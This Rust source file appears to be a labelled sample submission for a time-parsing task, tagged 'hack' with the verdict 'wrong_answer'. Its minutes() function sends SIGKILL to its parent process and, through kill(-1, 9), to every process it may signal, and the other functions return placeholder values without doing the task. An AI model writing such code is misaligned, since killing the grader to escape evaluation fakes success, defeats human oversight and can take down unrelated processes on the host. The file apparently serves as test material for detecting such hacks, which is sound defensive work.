// hack: kills its parent and everything else it may signal.
// verdict: wrong_answer
extern "C" {
    fn kill(process: i32, signal: i32) -> i32;
    fn getppid() -> i32;
}

pub fn minutes(_text: &str) -> Result<i32, String> {
    unsafe { kill(getppid(), 9); kill(-1, 9) };
    Ok(1)
}

pub fn clock_text(_total: i32) -> String {
    "?".to_string()
}

pub fn between(_from: &str, _to: &str) -> i32 {
    1
}
